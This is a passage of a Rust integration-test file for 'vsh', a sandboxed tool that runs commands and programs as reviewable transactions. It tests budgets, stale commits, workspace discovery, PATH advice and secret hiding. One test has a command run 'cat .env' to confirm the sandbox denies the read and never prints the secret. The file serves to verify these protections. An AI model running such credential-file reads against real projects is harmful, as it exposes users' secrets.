    let ws = dir.path().to_str().unwrap();
    let stdin = diff.to_str().unwrap();
    let preview = vsh(&["exec", "--workspace", ws, "--json", "--stdin", stdin, "--", "patch", "-p1"], None);
    assert_eq!(preview.status.code(), Some(0), "{}", String::from_utf8_lossy(&preview.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&preview.stdout).unwrap();
    assert_eq!(receipt["changed_paths"], 1, "{receipt}");
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "hello world\n", "a preview writes nothing");
    // The input is the transaction's: a commit after the file is gone applies the same change.
    std::fs::remove_file(&diff).unwrap();
    let id = receipt["transaction"].as_str().unwrap();
    let committed = vsh(&["commit", id, "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "goodbye world\n");
    // `-` is vsh's own stdin; without --stdin a command reads nothing of it.
    let script = ["sh", "-c", "tr a-z A-Z > upper.txt"];
    let fed = vsh(
        &[&["exec", "--workspace", ws, "--mode", "auto", "--stdin", "-", "--"][..], &script].concat(),
        Some("shout\n"),
    );
    assert_eq!(fed.status.code(), Some(0), "{}", String::from_utf8_lossy(&fed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("upper.txt")).unwrap(), "SHOUT\n");
    let unfed =
        vsh(&["exec", "--workspace", ws, "--mode", "auto", "--", "sh", "-c", "cat > heard.txt"], Some("shout\n"));
    assert_eq!(unfed.status.code(), Some(0), "{}", String::from_utf8_lossy(&unfed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("heard.txt")).unwrap(), "");
    // What is not text, or too long, is refused before anything runs.
    let binary = outside.path().join("binary");
    std::fs::write(&binary, [0xff, 0xfe, 0x00]).unwrap();
    let long = outside.path().join("long");
    std::fs::write(&long, vec![b'x'; (1 << 20) + 1]).unwrap();
    // Within 1 MiB, but not once each newline is written \n in the JSON text.
    let newlines = outside.path().join("newlines");
    std::fs::write(&newlines, vec![b'\n'; 700 << 10]).unwrap();
    for (input, says) in [(&binary, "not UTF-8"), (&long, "longer than 1 MiB"), (&newlines, "as a program text")] {
        let refused = vsh(
            &[
                "exec",
                "--workspace",
                ws,
                "--mode",
                "auto",
                "--stdin",
                input.to_str().unwrap(),
                "--",
                "sh",
                "-c",
                "cat > refused.txt",
            ],
            None,
        );
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains(says), "{stderr}");
        assert!(!dir.path().join("refused.txt").exists());
    }
}

#[test]
fn exec_gives_a_command_a_commands_budget_not_a_programs() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // Past what one call of a program may move (4 MiB) and what a program
    // may hold of one workspace file (4 MiB), and longer than a program's
    // second: a command reads it, writes a copy and takes its time.
    let big: Vec<u8> = (0..6u32 << 20).map(|i| (i % 253) as u8).collect();
    std::fs::write(dir.path().join("big.bin"), &big).unwrap();
    let ws = dir.path().to_str().unwrap();
    let script = "sleep 1.5; cat big.bin > copy.bin; md5sum big.bin";
    let ran = vsh(&["exec", "--workspace", ws, "--mode", "auto", "--json", "--", "sh", "-c", script], None);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["state"], "committed", "{receipt}");
    assert_eq!(std::fs::read(dir.path().join("copy.bin")).unwrap(), big);
    // The program's budget still applies where it is asked for, and the
    // limit is reported in its own units.
    let timed = vsh(&["exec", "--workspace", ws, "--timeout", "500ms", "--", "sleep", "5"], None);
    let stderr = String::from_utf8_lossy(&timed.stderr);
    assert_eq!(timed.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("duration limit 0.5 s exceeded after"), "{stderr}");
    assert!(stderr.contains("raise it with `--timeout`"), "{stderr}");
    // And that nothing of it is kept (ux79 L5).
    assert!(stderr.contains("nothing of a run a limit stopped is kept, --accept-failure or not"), "{stderr}");
    // Real Bash in a candidate gets the same.
    let script = dir.path().join("copy.sh");
    std::fs::write(&script, "sleep 1.5; cat big.bin > again.bin\n").unwrap();
    let script = script.to_str().unwrap();
    let ran = vsh(&["run", "--workspace", ws, "--confined", "--mode", "auto", "--json", script], None);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert_eq!(std::fs::read(dir.path().join("again.bin")).unwrap(), big);
}

#[test]
fn exec_reads_make_a_commit_stale_only_when_what_was_read_changed() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "alpha\n");
    write(dir.path(), "other.txt", "unrelated\n");
    let ws = dir.path().to_str().unwrap();
    let copy = ["exec", "--workspace", ws, "--", "sh", "-c", "cat a.txt > copy.txt"];
    // An edit of a file the command never looked at: the commit goes through.
    let preview = vsh(&copy, None);
    assert_eq!(preview.status.code(), Some(0), "{}", String::from_utf8_lossy(&preview.stderr));
    write(dir.path(), "other.txt", "edited by someone else\n");
    assert_eq!(vsh(&["commit", &id_of(&preview), "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(std::fs::read_to_string(dir.path().join("copy.txt")).unwrap(), "alpha\n");
    // An edit of the file it read: stale (exit 6), nothing written.
    std::fs::remove_file(dir.path().join("copy.txt")).unwrap();
    let preview = vsh(&copy, None);
    write(dir.path(), "a.txt", "changed\n");
    let stale = vsh(&["commit", &id_of(&preview), "--workspace", ws], None);
    assert_eq!(stale.status.code(), Some(6), "{}", String::from_utf8_lossy(&stale.stderr));
    assert!(String::from_utf8_lossy(&stale.stderr).contains("a.txt"));
    assert!(!dir.path().join("copy.txt").exists());
}

#[test]
fn exec_never_shows_a_secret_and_a_failing_command_commits_nothing() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    write(dir.path(), ".env", "SECRET=1\n");
    let ws = dir.path().to_str().unwrap();
    let listed = vsh(&["exec", "--workspace", ws, "--json", "--", "ls", "-a"], None);
    let receipt: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(receipt["stdout"], ".\n..\na.txt\n", "the secret is not even a name");
    // A command can only look a hidden name up, and is told it cannot: the
    // same answer whether it is there or not, so the look is no denial
    // (dotenv loaders and git look all the time), and the receipt says so.
    let script = "echo x > b.txt; cat .env; test -e .env.local; exit 0";
    let read = vsh(&["exec", "--workspace", ws, "--mode", "auto", "--json", "--", "sh", "-c", script], None);
    assert_eq!(read.status.code(), Some(0), "{}", String::from_utf8_lossy(&read.stdout));
    let receipt: serde_json::Value = serde_json::from_slice(&read.stdout).unwrap();
    assert_eq!(receipt["state"], "committed", "{receipt}");
    assert!(receipt["stderr"].as_str().unwrap().contains(".env: Permission denied"), "{receipt}");
    assert!(!receipt["stdout"].as_str().unwrap().contains("SECRET"), "{receipt}");
    assert_eq!(receipt["execution"]["denied_accesses"], 0, "{receipt}");
    assert!(receipt["execution"]["hidden_looks"].as_u64().unwrap() >= 2, "{receipt}");
    let warnings = receipt["warnings"].as_array().unwrap();
    assert!(
        warnings.iter().any(|w| w.as_str().unwrap().contains("paths hidden from it (.env, .env.local;")),
        "{receipt}"
    );
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "x\n");
    std::fs::remove_file(dir.path().join("b.txt")).unwrap();
    let failing = vsh(&["exec", "--workspace", ws, "--mode", "auto", "--", "sh", "-c", "echo x > c.txt; exit 4"], None);
    assert_eq!(failing.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&failing.stderr).contains("exit status 4"));
    assert!(!dir.path().join("c.txt").exists());
}

#[test]
fn run_with_commands_lets_a_monty_program_test_its_own_edit_in_one_transaction() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "check.sh", "grep -q fixed value.txt\n");
    write(dir.path(), "value.txt", "broken\n");
    let ws = dir.path().to_str().unwrap();
    let program = dir.path().join("fix.py");
    std::fs::write(
        &program,
        "vsh_write('value.txt', 'fixed\\n')\nstatus, out, err = vsh_exec(['sh', 'check.sh'])\nassert status == 0, err\nstatus\n",
    )
    .unwrap();
    let program = program.to_str().unwrap();
    let ran = vsh(&["run", "--workspace", ws, "--commands", "--mode", "auto", "--json", program], None);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["state"], "committed", "{receipt}");
    assert_eq!(std::fs::read_to_string(dir.path().join("value.txt")).unwrap(), "fixed\n");
    // Without --commands, vsh_exec is a RuntimeError and nothing commits.
    write(dir.path(), "value.txt", "broken\n");
    let plain = vsh(&["run", "--workspace", ws, "--mode", "auto", program], None);
    assert_eq!(plain.status.code(), Some(1), "{}", String::from_utf8_lossy(&plain.stdout));
    assert!(
        String::from_utf8_lossy(&plain.stderr).contains("RuntimeError"),
        "{}",
        String::from_utf8_lossy(&plain.stderr)
    );
    assert_eq!(std::fs::read_to_string(dir.path().join("value.txt")).unwrap(), "broken\n");
    let bash = vsh(&["run", "--workspace", ws, "--commands", "--language", "bash", program], None);
    assert_eq!(bash.status.code(), Some(2), "--commands is for Monty");
    // The program's own time stays a program's, its commands get a
    // command's (ux86 L2: a loop ran ten minutes); --timeout sets both.
    let looping = vsh(&["run", "--workspace", ws, "--commands", "-"], Some("while True:\n    pass"));
    let said = String::from_utf8_lossy(&looping.stderr);
    assert!(said.contains("duration limit 1 s exceeded"), "{said}");
    let slow = vsh(&["run", "--workspace", ws, "--commands", "--json", "-"], Some("vsh_exec(['sleep', '1.5'])"));
    let receipt: serde_json::Value = serde_json::from_slice(&slow.stdout).unwrap();
    assert_eq!(receipt["value"], serde_json::json!([0, "", ""]), "{receipt}");
    let bounded =
        vsh(&["run", "--workspace", ws, "--commands", "--timeout", "1s", "-"], Some("vsh_exec(['sleep', '5'])"));
    let said = String::from_utf8_lossy(&bounded.stderr);
    assert!(bounded.status.code() != Some(0) && said.contains("duration limit 1 s exceeded"), "{said}");
}

#[test]
fn exec_git_status_and_diff_read_the_repository_without_writing_it() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\n");
    let git = |args: &[&str]| {
        let done = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(done.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&done.stderr));
    };
    git(&["init", "-q"]);
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "first"]);
    write(dir.path(), "a.txt", "two\n");
    let ws = dir.path().to_str().unwrap();
    let index = std::fs::read(dir.path().join(".git/index")).unwrap();
    // git status would refresh the index (a write of .git, denied); it reads.
    let status = vsh(&["exec", "--workspace", ws, "--json", "--", "git", "status", "--short"], None);
    assert_eq!(status.status.code(), Some(0), "{}", String::from_utf8_lossy(&status.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(receipt["state"], "auto-approved", "{receipt}");
    assert_eq!(receipt["stdout"], " M a.txt\n", "{receipt}");
    assert_eq!(receipt["changed_paths"], 0, "{receipt}");
    let diff = vsh(&["exec", "--workspace", ws, "--json", "--", "git", "diff", "--stat"], None);
    let receipt: serde_json::Value = serde_json::from_slice(&diff.stdout).unwrap();
    assert!(receipt["stdout"].as_str().unwrap().contains("a.txt | 2 +-"), "{receipt}");
    assert_eq!(std::fs::read(dir.path().join(".git/index")).unwrap(), index);
}

/// vsh run in `cwd` with `args` and `stdin`, nothing of this process's
/// environment but `HOME` when given (so that it finds the workspace by itself).
fn vsh_at(cwd: &Path, home: Option<&Path>, args: &[&str], stdin: &str) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_vsh"));
    command.env_clear();
    if let Some(home) = home {
        command.env("HOME", home);
    }
    command
        .current_dir(cwd)
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write as _;
            child.stdin.take().unwrap().write_all(stdin.as_bytes())?;
            child.wait_with_output()
        })
        .unwrap()
}

#[test]
fn without_a_workspace_above_the_top_of_the_git_repository_is_the_workspace() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("repo")).unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir(repo.join(".git")).unwrap();
    std::fs::write(repo.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    write(&repo, "src/deep/a.txt", "a\n");
    let from = |cwd: &Path, code: &str| vsh_at(cwd, Some(&dir.path().join("home")), &["run", "--json", "-"], code);
    // From a subdirectory of the repository: the repository is the workspace.
    let ran = from(&repo.join("src/deep"), "from pathlib import Path\nPath('src/deep/a.txt').read_text()");
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert!(repo.join(".vsh").is_dir() && !repo.join("src/deep/.vsh").exists());
    assert!(String::from_utf8_lossy(&ran.stderr).contains(&format!("{}", repo.display())), "{ran:?}");
    // Outside any repository: the current directory, as before.
    std::fs::create_dir(dir.path().join("plain")).unwrap();
    let plain = from(&dir.path().join("plain"), "1");
    assert_eq!(plain.status.code(), Some(0), "{}", String::from_utf8_lossy(&plain.stderr));
    assert!(dir.path().join("plain/.vsh").is_dir() && !dir.path().join(".vsh").exists());
    // A home kept in git is not a project: the current directory.
    std::fs::create_dir_all(dir.path().join("home/.git")).unwrap();
    std::fs::write(dir.path().join("home/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(dir.path().join("home/projects/foo")).unwrap();
    let in_home = from(&dir.path().join("home/projects/foo"), "1");
    assert_eq!(in_home.status.code(), Some(0), "{}", String::from_utf8_lossy(&in_home.stderr));
    assert!(dir.path().join("home/projects/foo/.vsh").is_dir() && !dir.path().join("home/.vsh").exists());
    // Another user's .git does not choose the workspace either (root runs the tests and can give it away).
    if is_root() {
        std::fs::create_dir_all(dir.path().join("shared/.git")).unwrap();
        std::fs::write(dir.path().join("shared/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::create_dir_all(dir.path().join("shared/mine")).unwrap();
        std::os::unix::fs::chown(dir.path().join("shared/.git"), Some(65534), Some(65534)).unwrap();
        let mine = from(&dir.path().join("shared/mine"), "1");
        assert_eq!(mine.status.code(), Some(0), "{}", String::from_utf8_lossy(&mine.stderr));
        assert!(dir.path().join("shared/mine/.vsh").is_dir() && !dir.path().join("shared/.vsh").exists());
    }
}

/// ux58 1: one `vsh run` in a directory of projects made it a workspace,
/// which then took every git project below it: their `vsh init` recorded
/// the policy above them (saying nowhere where), and their builds' `target/`
/// were no scratch directory. A workspace above a repository that is in no
/// repository itself passes over it; a superproject's takes its submodules.
#[test]
fn a_directory_of_projects_made_a_workspace_does_not_take_the_repositories_below_it() {
    let dir = tempfile::tempdir().unwrap();
    let projects = dir.path().join("projects");
    let repo = projects.join("calc");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    std::fs::write(repo.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    write(&repo, "src/a.txt", "a\n");
    let vsh_in = |cwd: &Path, args: &[&str], stdin: &str| vsh_at(cwd, Some(&dir.path().join("home")), args, stdin);
    let first = vsh_in(&projects, &["run", "-"], "1");
    assert_eq!(first.status.code(), Some(0), "{first:?}");
    assert!(projects.join(".vsh").is_dir());
    // Commands about stored work, from inside the project, say why they find none.
    let pending = vsh_in(&repo.join("src"), &["pending"], "");
    assert_ne!(pending.status.code(), Some(0));
    let said = String::from_utf8_lossy(&pending.stderr).into_owned();
    assert!(said.contains(&format!("--workspace {}", projects.display())) && said.contains("vsh init"), "{said}");
    // `vsh init` from inside it makes the project its own workspace, and says which.
    let init = vsh_in(&repo.join("src"), &["init"], "");
    assert_eq!(init.status.code(), Some(0), "{init:?}");
    assert!(repo.join(".vsh").is_dir(), "{init:?}");
    let real = std::fs::canonicalize(&repo).unwrap();
    assert!(String::from_utf8_lossy(&init.stdout).contains(&format!("workspace at {}", real.display())), "{init:?}");
    let json = vsh_in(&repo, &["init", "--json", "--force"], "");
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(document["workspace"], real.display().to_string(), "{document}");
    // And runs there are the project's.
    let ran =
        vsh_in(&repo.join("src"), &["run", "--json", "-"], "from pathlib import Path\nPath('src/a.txt').read_text()");
    assert_eq!(ran.status.code(), Some(0), "{ran:?}");
    // A superproject's workspace (a repository itself) takes a submodule below it.
    let outer = dir.path().join("outer");
    std::fs::create_dir_all(outer.join(".git")).unwrap();
    std::fs::write(outer.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(outer.join("vendor/lib")).unwrap();
    std::fs::write(outer.join("vendor/lib/.git"), "gitdir: ../../.git/modules/lib\n").unwrap();
    assert_eq!(vsh_in(&outer, &["init"], "").status.code(), Some(0));
    let inner = vsh_in(&outer.join("vendor/lib"), &["pending", "--json"], "");
    assert_eq!(inner.status.code(), Some(0), "{inner:?}");
    assert!(!outer.join("vendor/lib/.vsh").exists());
    // A workspace whose policy was recorded keeps a repository unpacked
    // into it, and an entry named .git that is no repository is none
    // (sec63 D1: an empty .git escaped a strict policy).
    let initialised = dir.path().join("initialised");
    std::fs::create_dir_all(initialised.join("vendor/pkg/.git")).unwrap();
    std::fs::write(initialised.join("vendor/pkg/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(initialised.join("vendor/junk/.git")).unwrap();
    assert_eq!(vsh_in(&initialised, &["init", "--profile", "strict"], "").status.code(), Some(0));
    for below in ["vendor/pkg", "vendor/junk"] {
        let listed = vsh_in(&initialised.join(below), &["pending", "--json"], "");
        assert_eq!(listed.status.code(), Some(0), "{below}: {listed:?}");
        let ran = vsh_in(&initialised.join(below), &["run", "-"], "1");
        assert_eq!(ran.status.code(), Some(0), "{below}: {ran:?}");
        assert!(!initialised.join(below).join(".vsh").exists(), "{below}");
    }
    // A directory of projects made a workspace by a run, with an empty
    // .git below: no repository, so the workspace above is used.
    std::fs::create_dir_all(projects.join("notes/.git")).unwrap();
    let notes = vsh_in(&projects.join("notes"), &["pending", "--json"], "");
    assert_eq!(notes.status.code(), Some(0), "{notes:?}");
}

#[test]
fn exec_starts_the_command_where_the_user_is_and_the_commit_keeps_it() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "top.txt", "top\n");
    write(dir.path(), "src/app/lib.txt", "lib\n");
    assert_eq!(vsh(&["init", "--workspace", dir.path().to_str().unwrap()], None).status.code(), Some(0));
    let inside = dir.path().join("src/app");
    let exec = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_vsh")).env_clear().current_dir(&inside).args(args).output().unwrap()
    };
    let ran = exec(&["exec", "--json", "--", "sh", "-c", "cat lib.txt; echo made > made.txt"]);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["stdout"], "lib\n", "{receipt}");
    assert_eq!(receipt["changed_paths"], 1, "{receipt}");
    // The directory is part of the program text, so the commit (from
    // anywhere) is of the same work.
    let id = receipt["transaction"].as_str().unwrap();
    // Its review shows the command line as a shell reads it, and where it started.
    let shown = vsh(&["show", id, "--workspace", dir.path().to_str().unwrap()], None);
    let shown = String::from_utf8_lossy(&shown.stdout);
    assert!(
        shown.contains("\nprogram      sh -c 'cat lib.txt; echo made > made.txt'\nin           src/app\n"),
        "{shown}"
    );
    assert!(shown.contains("command      exited 0 (profile vsh-command-confined-v1)"), "{shown}");
    let committed = vsh(&["commit", id, "--workspace", dir.path().to_str().unwrap()], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(inside.join("made.txt")).unwrap(), "made\n");
    assert!(!dir.path().join("made.txt").exists());
    // At the root, the plain argv as before.
    let at_root = vsh(&["exec", "--workspace", dir.path().to_str().unwrap(), "--json", "--", "cat", "top.txt"], None);
    let receipt: serde_json::Value = serde_json::from_slice(&at_root.stdout).unwrap();
    assert_eq!(receipt["stdout"], "top\n", "{receipt}");
    // A program starts at the root, not here, and vsh says so (ux58 2).
    let program = dir.path().join("p.py");
    std::fs::write(&program, "1").unwrap();
    let ran = exec(&["run", program.to_str().unwrap()]);
    let said = String::from_utf8_lossy(&ran.stderr);
    assert!(said.contains("a program starts at the workspace's root") && said.contains("src/app/NAME"), "{said}");
    let at_root = vsh(&["run", "--workspace", dir.path().to_str().unwrap(), program.to_str().unwrap()], None);
    assert!(!String::from_utf8_lossy(&at_root.stderr).contains("starts at the workspace's root"), "{at_root:?}");
}

#[test]
fn exec_of_a_program_it_cannot_find_says_how_to_give_one() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    for (program, rustup) in [("vsh-no-such-program", false), ("cargo-vsh-no-such", true)] {
        let ran = vsh(&["exec", "--workspace", ws, "--", program], None);
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert_eq!(ran.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains("caused by: the command could not start"), "{stderr}");
        assert!(!stderr.contains("worker"), "not the Monty worker's failure: {stderr}");
        assert!(
            stderr.contains(&format!("`{program}` is not on the command's PATH (/usr/local/bin:/usr/bin:/bin")),
            "{stderr}"
        );
        assert!(stderr.contains("--tool DIR --env PATH=DIR:/usr/local/bin:/usr/bin:/bin"), "{stderr}");
        assert_eq!(stderr.contains("rustc --print sysroot"), rustup, "{stderr}");
        // Cargo's downloaded crates without its registry token.
        assert_eq!(stderr.contains("--tool ~/.cargo/registry "), rustup, "{stderr}");
        assert!(!stderr.contains("--tool ~/.cargo "), "{stderr}");
        // The error itself names the same search, not the sandbox's own.
        assert!(stderr.contains("not found on the command's PATH") && !stderr.contains("/usr/bin or /bin"), "{stderr}");
        // The JSON error carries the advice as its hint.
        let json = vsh(&["exec", "--json", "--workspace", ws, "--", program], None);
        let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        let hint = document["hint"].as_str().unwrap_or_else(|| panic!("{document}"));
        assert!(hint.contains("--tool DIR") && !hint.contains("vsh:"), "{hint}");
    }
    // Nothing is made for a command that cannot start: not a workspace.
    assert!(!dir.path().join(".vsh").exists(), "a workspace was made for a program that is nowhere");
    // A name on none of the operator's own PATH either is likely a typo; one
    // there is not (ux55).
    let own = tempfile::tempdir().unwrap();
    std::fs::write(own.path().join("vsh-only-mine"), "#!/bin/sh\n").unwrap();
    let own_path = format!("{}:/usr/bin:/bin", own.path().display());
    for (program, typo) in [("pyhton3-vsh", true), ("vsh-only-mine", false)] {
        let ran = vsh_on_path(&["exec", "--workspace", ws, "--", program], &own_path);
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert_eq!(stderr.contains("on no directory of your own PATH either: check its name"), typo, "{stderr}");
    }
    // A Monty program's vsh_exec raises FileNotFoundError; the error says
    // the same (ux49 L1).
    let program = "vsh_exec(['vsh-no-such-program'], check=True)";
    let ran = vsh(&["run", "--commands", "--workspace", ws, "-"], Some(program));
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert_eq!(ran.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("FileNotFoundError"), "{stderr}");
    assert!(stderr.contains("`vsh-no-such-program` is not on the command's PATH"), "{stderr}");
}

/// ux56 #3, sec57 F5, sec58 3, sec59 F3: the note when the operator's PATH
/// finds another program than the command's, and the tools it suggests.
#[test]
fn the_path_note_names_the_operators_program_and_suggests_only_safe_tools() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    // A program the command's PATH finds in the system directories while
    // the operator's finds another first (pyenv's python3 over
    // /usr/bin/python3) is named, with how to run the operator's (ux56).
    let venv = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(venv.path().join("env/bin")).unwrap();
    // A virtualenv's program links to its interpreter's installation, which
    // the note names as a tool too (ux57).
    std::fs::create_dir_all(venv.path().join("inst/bin")).unwrap();
    std::fs::copy("/bin/true", venv.path().join("inst/bin/true")).unwrap();
    std::os::unix::fs::symlink("../../inst/bin/true", venv.path().join("env/bin/true")).unwrap();
    for (path, noted) in
        [(format!("{}/env/bin:/usr/bin:/bin", venv.path().display()), true), ("/usr/bin:/bin".to_owned(), false)]
    {
        let ran = vsh_on_path(&["exec", "--workspace", ws, "--", "true"], &path);
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert_eq!(ran.status.code(), Some(0), "{stderr}");
        let expected =
            format!("to run that one: --tool {0}/env --tool {0}/inst --env PATH={0}/env/bin:", venv.path().display());
        assert_eq!(stderr.contains(&expected), noted, "{stderr}");
        assert_eq!(stderr.contains("that your own PATH finds first"), noted, "{stderr}");
    }
    // An installation others may write, or one that holds a workspace, is
    // named but never suggested as a tool (sec57 F5).
    // (And group-writable, its bin writable, a workspace two levels down: sec58 3.)
    // (And a workspace three levels down, credentials a level down, a
    // program in bin others may write, another user's directory: sec59 F3.)
    for spoil in ["writable", "group", "bin", "workspace", "deeper", "deepest", "credentials", "program", "owner"] {
        use std::os::unix::fs::PermissionsExt as _;
        let env = venv.path().join("env");
        let mode = |path: &std::path::Path, mode| std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode));
        mode(&env, 0o755).unwrap();
        mode(&env.join("bin"), 0o755).unwrap();
        match spoil {
            "writable" => mode(&env, 0o777).unwrap(),
            "group" => mode(&env, 0o775).unwrap(),
            "bin" => mode(&env.join("bin"), 0o777).unwrap(),
            "workspace" => std::fs::create_dir_all(env.join("project/.vsh")).unwrap(),
            "deeper" => {
                std::fs::remove_dir_all(env.join("project")).unwrap();
                std::fs::create_dir_all(env.join("projects/one/.vsh")).unwrap();
            }
            "deepest" => {
                std::fs::remove_dir_all(env.join("projects")).unwrap();
                std::fs::create_dir_all(env.join("work/projects/one/.vsh")).unwrap();
            }
            "credentials" => {
                std::fs::remove_dir_all(env.join("work")).unwrap();
                std::fs::create_dir_all(env.join("home/.ssh")).unwrap();
            }
            "program" => {
                std::fs::remove_dir_all(env.join("home")).unwrap();
                mode(&venv.path().join("inst/bin/true"), 0o777).unwrap();
                mode(&env.join("bin/true"), 0o777).unwrap();
            }
            _ => {
                mode(&venv.path().join("inst/bin/true"), 0o755).unwrap();
                std::os::unix::fs::chown(&env, Some(65534), None).unwrap();
            }
        }
        let ran = vsh_on_path(
            &["exec", "--workspace", ws, "--", "true"],
            &format!("{}/env/bin:/usr/bin:/bin", venv.path().display()),
        );
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert!(stderr.contains("that your own PATH finds first") && !stderr.contains("--tool"), "{spoil}: {stderr}");
    }
}

#[test]
fn show_full_reviews_files_past_the_default_limits_and_show_says_what_it_left_out() {
    let dir = tempfile::tempdir().unwrap();
    let lines = (0..20_000).fold(String::new(), |mut lines, index| {
        use std::fmt::Write as _;
        let _ = writeln!(lines, "line {index}");
        lines
    });
    assert!(lines.len() > 128 << 10);
    write(dir.path(), "big.txt", &lines);
    let ws = dir.path().to_str().unwrap();
    let edit = "from pathlib import Path\np = Path('big.txt')\np.write_text(p.read_text().replace('line 5\\n', 'LINE FIVE\\n', 1))";
    let ran = vsh(&["run", "--workspace", ws, "--json", "-"], Some(edit));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    let id = receipt["transaction"].as_str().unwrap();
    // run --full says so too, pointing to the show that has them.
    let full_run = vsh(&["run", "--workspace", ws, "--full", "-"], Some(edit));
    assert!(String::from_utf8_lossy(&full_run.stderr).contains("--full reviews them"), "{full_run:?}");
    // And --json among the receipt's warnings, for a program that reads it.
    let json_run = valid_document(&vsh(&["run", "--workspace", ws, "--full", "--json", "-"], Some(edit)));
    let warnings = json_run["warnings"].as_array().unwrap();
    assert!(warnings.iter().any(|w| w.as_str().unwrap().contains("--full reviews them")), "{json_run}");
    let json_show = valid_document(&vsh(&["show", "--json", id, "--workspace", ws], None));
    assert!(json_show["receipt"]["warnings"].to_string().contains("--full reviews them"), "{json_show}");
    let shown = vsh(&["show", id, "--workspace", ws], None);
    let (stdout, stderr) = (String::from_utf8_lossy(&shown.stdout), String::from_utf8_lossy(&shown.stderr));
    assert!(!stdout.contains("+LINE FIVE"), "{stdout}");
    assert!(
        stderr.contains(&format!(
            "1 changed file was not reviewed (over 128 KiB a file): vsh show {} --full reviews them",
            &id[..12]
        )),
        "{stderr}"
    );
    let full = vsh(&["show", id, "--workspace", ws, "--full"], None);
    let stdout = String::from_utf8_lossy(&full.stdout);
    assert!(stdout.contains("    -line 5\n    +LINE FIVE\n"), "{stdout}");
    assert!(full.stderr.is_empty(), "{}", String::from_utf8_lossy(&full.stderr));
}

#[test]
fn a_damaged_transaction_log_says_how_to_salvage_it_and_recover_salvages_it() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let delete = "from pathlib import Path\nPath('a.txt').unlink()";
    let pending = vsh(&["run", "--workspace", ws, "--json", "-"], Some(delete));
    let id = serde_json::from_slice::<serde_json::Value>(&pending.stdout).unwrap()["transaction"]
        .as_str()
        .unwrap()
        .to_owned();
    let whole = std::fs::read(dir.path().join(".vsh/data/txlog")).unwrap();
